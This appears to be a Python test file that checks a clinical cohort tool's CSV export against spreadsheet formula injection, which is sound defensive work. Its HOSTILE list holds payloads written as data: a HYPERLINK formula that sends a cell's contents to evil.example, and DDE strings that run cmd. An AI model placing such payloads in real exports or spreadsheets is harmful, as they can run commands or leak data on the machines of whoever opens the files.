"""CSV formula injection (issue 9 item 12): no cell of the CSVs starts a spreadsheet formula, and
load_results reads back the values as they were."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fhir_cohort.report.outputs import (
    EVIDENCE_COLUMNS,
    FORMULA_STARTS,
    _text_cells,
    neutralise_cell,
    neutralise_frame,
    restore_cell,
    write_csv,
    write_outputs,
)
from fhir_cohort.results import load_results

# Every kind of cell a spreadsheet runs (OWASP's list of first characters), and what stays.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-1.5 mg/dL",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by someone: must read back with its quote
    "'",
    "-",
    "+",
]
NUMBERS = ["-1.5", "+3", "-2e-3", "-.5", "-10", "1.5E+3"]
PLAIN = ["", "SLE", "a=b", " =1", "M32.14"]

# Text pandas writes and reads back as it was (no NUL; newlines inside cells are quoted).
text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))


@given(text)
def test_restore_undoes_neutralise(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value


@given(text)
def test_a_neutralised_cell_starts_no_formula(value: str) -> None:
    safe = neutralise_cell(value)
    assert isinstance(safe, str)
    if safe[:1] in FORMULA_STARTS:  # only a plain number may start with + or -
        assert safe == value and safe[0] in "+-"
        float(safe)  # a number, nothing more


def test_the_rule_cell_by_cell() -> None:
    for value in HOSTILE:
        assert neutralise_cell(value) == "'" + value
    for value in NUMBERS + PLAIN:
        assert neutralise_cell(value) == value
    for value in (None, 3, -1.5, float("nan")):
        assert neutralise_cell(value) is value


def _write(out: Path, displays: list[str]) -> pd.DataFrame:
    evidence = pd.DataFrame(
        [
            {
                "patient_id": f"p{i}",
                "criterion_id": "sle",
                "resource_type": "Condition",
                "resource_id": f"c{i}",
                "system": "http://snomed.info/sct",
                "code": "55464009",
                "display": display,
                "date": "2020-01-01",
                "value": display,
                "note": "",
            }
            for i, display in enumerate(displays)
        ],
        columns=list(EVIDENCE_COLUMNS),
    )
    patients = pd.DataFrame(
        {
            "patient_id": [f"p{i}" for i in range(len(displays))],
            "status": "review",
            "sle": "met",
            "reasons": displays,
        }
    )
    write_outputs(
        out,
        patients=patients,
        evidence=evidence,
        attrition=pd.DataFrame({"step": [1], "title": [displays[0] if displays else ""]}),
        group={"resourceType": "Group"},
        run={"criteria": {"criterion_ids": ["sle"]}},
    )
    return evidence


def test_no_csv_cell_starts_a_formula_and_load_results_reads_the_truth(tmp_path: Path) -> None:
    values = HOSTILE + NUMBERS + PLAIN
    evidence = _write(tmp_path, values)
    for name in ("evidence.csv", "patients.csv", "attrition.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert cell[:1] not in FORMULA_STARTS or cell in NUMBERS, (name, cell)
    raw = pd.read_csv(tmp_path / "evidence.csv", dtype=str, keep_default_na=False)
    assert raw["display"].tolist() == ["'" + v for v in HOSTILE] + NUMBERS + PLAIN
    back = load_results(tmp_path)
    assert back.evidence["display"].tolist() == values
    assert back.evidence["value"].tolist() == values
    assert back.patients["reasons"].tolist() == values
    assert back.attrition["title"].tolist() == [values[0]]
    assert back.evidence.equals(evidence)
    # The Parquet twins hold the true values, unquoted.
    assert pd.read_parquet(tmp_path / "evidence.parquet")["display"].tolist() == values


@given(st.lists(text, min_size=1, max_size=8))
def test_outputs_round_trip_any_text(tmp_path_factory, displays: list[str]) -> None:
    out = tmp_path_factory.mktemp("rt")
    _write(out, displays)
    back = load_results(out)
    assert back.evidence["display"].tolist() == displays
    assert back.patients["reasons"].tolist() == displays
    assert json.loads((out / "run.json").read_text())["criteria"]["criterion_ids"] == ["sle"]


# A text cell, a missing one (None, NaN, NA) or a hostile one.
cell = st.one_of(text, st.none(), st.just(float("nan")), st.sampled_from(HOSTILE + NUMBERS))


@given(
    st.lists(st.lists(cell, min_size=3, max_size=3), max_size=6),
    st.sampled_from(["str", "object", "string[pyarrow]", "string[python]"]),
)
def test_text_frames_are_written_as_pandas_writes_them(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[object]], dtype: str
) -> None:
    """write_csv writes an all-text frame with Arrow's CSV writer: byte for byte what pandas'
    to_csv writes of the neutralised frame (the path every other frame takes), whatever the
    text dtype, empty frames, missing, hostile and non-ASCII cells included."""
    frame = pd.DataFrame(rows, columns=["a", "b", "c"], dtype=dtype)
    out = tmp_path_factory.mktemp("csv")
    write_csv(frame, out / "fast.csv")
    assert _text_cells(frame) is not None
    with (out / "pandas.csv").open("w", encoding="utf-8", newline="") as fh:
        neutralise_frame(frame).to_csv(
            fh, index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC
        )
    assert (out / "fast.csv").read_bytes() == (out / "pandas.csv").read_bytes()


def test_frames_with_numbers_or_dates_are_left_to_pandas() -> None:
    assert _text_cells(pd.DataFrame({"a": ["x"], "n": [1]})) is None
    assert _text_cells(pd.DataFrame({"a": ["x"], "o": pd.Series([1.5], dtype=object)})) is None
    assert _text_cells(pd.DataFrame({"d": pd.to_datetime(["2024-01-01"])})) is None
    assert _text_cells(pd.DataFrame({"a": ["x"], "b": ["y"]})) is not None
